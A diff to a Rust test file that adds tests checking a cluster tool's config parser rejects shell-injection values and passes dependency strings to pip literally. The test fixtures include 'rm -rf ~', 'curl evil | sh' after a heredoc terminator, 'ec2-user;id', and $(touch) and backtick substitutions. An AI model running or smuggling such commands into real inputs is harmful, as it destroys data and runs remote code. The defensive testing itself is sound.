@@ -82,6 +82,79 @@ bad_config!(
     unknown_key_in_run,
     "[setup]\nname = \"demo\"\n[run]\nsetup_command = [\"ls\"]\n"
 );
+// Values that reach a shell on the nodes: a line break could end a quoted block and run the
+// rest as commands on every node.
+bad_config!(
+    dependency_with_a_newline,
+    "[setup]\nname = \"demo\"\ndependencies = [\"numpy\", \"pandas\\nrm -rf ~\"]\n"
+);
+bad_config!(
+    dependency_with_a_heredoc_terminator,
+    "[setup]\nname = \"demo\"\ndependencies = [\"numpy\\nDAFT_BOOTSTRAP_EOF\\ncurl evil | sh\"]\n"
+);
+bad_config!(
+    setup_command_with_a_control_character,
+    "[setup]\nname = \"demo\"\n[run]\nsetup_commands = [\"echo \\u001b[2J\"]\n"
+);
+bad_config!(
+    ssh_user_with_shell_characters,
+    "[setup]\nname = \"demo\"\nssh_user = \"ec2-user;id\"\n"
+);
+bad_config!(
+    bad_command_timeout,
+    "[setup]\nname = \"demo\"\ncommand_timeout = \"forever\"\n"
+);
+bad_config!(
+    max_parallel_zero,
+    "[setup]\nname = \"demo\"\nmax_parallel = 0\n"
+);
+
+/// Shell metacharacters in a requirement (valid PEP 508 markers use `;`) reach pip literally:
+/// the rendered bootstrap hands them over as one quoted value, never run by a shell.
+#[test]
+fn dependency_with_shell_metacharacters_is_passed_literally() {
+    let dir = tempfile::tempdir().unwrap();
+    let marker = dir.path().join("pwned");
+    let dep = format!(
+        "numpy; python_version >= \"3.9\" $(touch {m}) `touch {m}` ' \\ && touch {m}",
+        m = marker.display()
+    );
+    let text = format!(
+        "[setup]\nname = \"demo\"\nprovider = \"local\"\ndependencies = [{}]\n",
+        toml_edit::Value::from(dep.as_str())
+    );
+    let cfg = Config::parse("c.toml", &text, dir.path()).unwrap();
+    assert_eq!(cfg.setup.dependencies, [dep.clone()]);
+    let params = daft::bootstrap::NodeParams {
+        cluster: "demo".into(),
+        requirements: daft::bootstrap::requirements(&cfg),
+        ..Default::default()
+    };
+    // Evaluate the script's settings the way a node's shell does, and print the value back.
+    let script = daft::bootstrap::render(&params);
+    let prelude: String = script
+        .lines()
+        .take_while(|l| !l.starts_with("# daft node bootstrap"))
+        .collect::<Vec<_>>()
+        .join("\n");
+    let out = std::process::Command::new("sh")
+        .arg("-c")
+        .arg(format!("{prelude}\nprintf '%s' \"$DAFT_REQUIREMENTS\""))
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let got = String::from_utf8(out.stdout).unwrap();
+    assert_eq!(got.lines().last(), Some(dep.as_str()));
+    assert!(!marker.exists(), "a dependency ran as shell code");
+    // The whole command daft sends is one quoted script: nothing in it runs on its own.
+    let cmd = daft::bootstrap::command(&params, &["status"]);
+    assert!(
+        cmd.text.starts_with("sh -c '") && !cmd.text.contains("DAFT_BOOTSTRAP_EOF"),
+        "not one quoted script: {}",
+        &cmd.text[..200]
+    );
+}
+
 bad_config!(missing_setup_table, "[run]\nsetup_commands = []\n");
 bad_config!(missing_name, "[setup]\nprovider = \"aws\"\n");
 bad_config!(empty_name, "[setup]\nname = \"  \"\n");
